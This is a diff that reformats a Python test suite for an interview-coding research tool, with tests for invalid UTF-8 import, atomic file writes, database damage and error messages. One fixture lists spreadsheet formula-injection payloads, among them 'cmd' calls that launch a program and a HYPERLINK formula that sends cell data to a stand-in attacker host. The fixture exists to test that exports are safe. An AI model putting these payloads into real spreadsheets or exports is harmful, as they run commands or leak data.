@@ -93,8 +93,10 @@ def test_200_mb_file_in_a_folder_import_fails_alone(tmp_path):
 
 
 # --- invalid UTF-8 ----------------------------------------------------------------------------
-_BROKEN_UTF8 = ("Interviewer: What got in the way?\nP01: caf\u00e9 and na\u00efve ".encode()
-                + b"\xff\xfe\xc3\x28 \xe2\x82 \xed\xa0\x80 overlong \xc0\xaf and \x81\x8d\x8f\x90\x9d end\n")
+_BROKEN_UTF8 = (
+    "Interviewer: What got in the way?\nP01: caf\u00e9 and na\u00efve ".encode()
+    + b"\xff\xfe\xc3\x28 \xe2\x82 \xed\xa0\x80 overlong \xc0\xaf and \x81\x8d\x8f\x90\x9d end\n"
+)
 
 
 def test_invalid_utf8_transcript_imports_without_losing_text(tmp_path):
@@ -104,7 +106,7 @@ def test_invalid_utf8_transcript_imports_without_losing_text(tmp_path):
     doc = parse_file(path)
     assert "\ufffd" not in doc.text
     assert doc.text.endswith("end")
-    assert [doc.text[t.start:t.end][:4] for t in doc.turns] == ["What", "caf\u00c3"]
+    assert [doc.text[t.start : t.end][:4] for t in doc.turns] == ["What", "caf\u00c3"]
 
 
 def test_invalid_utf8_with_a_forced_encoding_names_the_byte(tmp_path):
@@ -129,8 +131,13 @@ def test_utf8_bom_with_invalid_bytes_is_refused(tmp_path):
 
 
 # --- formulas in transcripts and memos must not run in a spreadsheet ------------------------------
-FORMULAS = ["=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"]
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+]
 
 
 @pytest.fixture
@@ -147,10 +154,16 @@ def formula_project(tmp_path):
     assert report.ok, report.failed
     doc = proj.documents()[0]
     for turn in proj.turns(doc.id):
-        text = proj.document_text(doc.id)[turn.start:turn.end]
+        text = proj.document_text(doc.id)[turn.start : turn.end]
         if text in FORMULAS:
-            proj.add_coding(doc.id, turn.start, turn.end, "cfir2.inner.culture", valence="barrier",
-                            memo=FORMULAS[(FORMULAS.index(text) + 1) % len(FORMULAS)])
+            proj.add_coding(
+                doc.id,
+                turn.start,
+                turn.end,
+                "cfir2.inner.culture",
+                valence="barrier",
+                memo=FORMULAS[(FORMULAS.index(text) + 1) % len(FORMULAS)],
+            )
     assert len(proj.codings()) == len(FORMULAS)
     yield proj
     proj.close()
@@ -235,8 +248,11 @@ def test_a_write_removes_stale_parts_of_its_target_only(tmp_path):
 
     target = tmp_path / "report.md"
     stale = [tmp_path / ".report.md.0a1b2c3d.part", tmp_path / ".report.md.0a1b2c3e.tmp"]
-    others = [tmp_path / ".report.md.backup.0a1b2c3d.part", tmp_path / ".report.mdx.0a1b2c3d.part",
-              tmp_path / "report.md.0a1b2c3d.part"]
+    others = [
+        tmp_path / ".report.md.backup.0a1b2c3d.part",
+        tmp_path / ".report.mdx.0a1b2c3d.part",
+        tmp_path / "report.md.0a1b2c3d.part",
+    ]
     for path in stale + others:
         path.write_text("half")
     atomic_write(target, "# Findings\n")
@@ -301,8 +317,12 @@ def test_command_line_text_that_is_not_utf8_is_stored_not_a_traceback(tmp_path, 
 
     path = str(project.path)
     project.close()
-    done = subprocess.run([sys.executable, "-m", "evalbench.cli", "codebook", "rename", path, "inner.culture",
-                           b"Cult\xffure"], capture_output=True, text=True, timeout=120)
+    done = subprocess.run(
+        [sys.executable, "-m", "evalbench.cli", "codebook", "rename", path, "inner.culture", b"Cult\xffure"],
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert done.returncode == 0, done.stderr
     assert "not UTF-8 text; read as 'Cultÿure'" in done.stderr
     with Project.open(path) as proj:
@@ -319,10 +339,13 @@ def test_damage_inside_a_text_value_is_reported_and_recovered(tmp_path, project)
     project.close()  # the last connection closing writes the WAL into the file
     data = path.read_bytes()
     at = data.index(b"Honestly, competing priorities")
-    path.write_bytes(data[:at] + b"\xff\xfe\xdb" + data[at + 3:])
+    path.write_bytes(data[:at] + b"\xff\xfe\xdb" + data[at + 3 :])
     runner = CliRunner()
-    for argv in (["check", str(path)], ["search", str(path), "priorities"], ["export", str(path), "-o",
-                                                                               str(tmp_path / "r.md")]):
+    for argv in (
+        ["check", str(path)],
+        ["search", str(path), "priorities"],
+        ["export", str(path), "-o", str(tmp_path / "r.md")],
+    ):
         result = runner.invoke(main, argv)
         assert not isinstance(result.exception, UnicodeDecodeError), argv
         if result.exit_code:
@@ -370,12 +393,15 @@ def test_library_failures_are_said_in_words_without_class_names():
         pass
 
     digits = ValueError("Exceeds the limit (4300 digits) for integer string conversion: value has 5000 digits")
-    cases = {digits: "number too long", RecursionError("maximum recursion depth exceeded"): "nesting too deep",
-             InvalidXmlError("value must be one of '1', '0', 'true' or 'false', got 'maybe'"): "XML value",
-             PdfStreamError("Stream has ended unexpectedly"): "ends too early",
-             zlib.error("Error -3 while decompressing data"): "damaged compressed data",
-             lzma.LZMAError("Corrupt input data"): "damaged compressed data",
-             OverflowError("Python int too large to convert to C int"): "number too large"}
+    cases = {
+        digits: "number too long",
+        RecursionError("maximum recursion depth exceeded"): "nesting too deep",
+        InvalidXmlError("value must be one of '1', '0', 'true' or 'false', got 'maybe'"): "XML value",
+        PdfStreamError("Stream has ended unexpectedly"): "ends too early",
+        zlib.error("Error -3 while decompressing data"): "damaged compressed data",
+        lzma.LZMAError("Corrupt input data"): "damaged compressed data",
+        OverflowError("Python int too large to convert to C int"): "number too large",
+    }
     for exc, words in cases.items():
         said = describe_failure(exc)
         assert words in said and type(exc).__name__ not in said, said
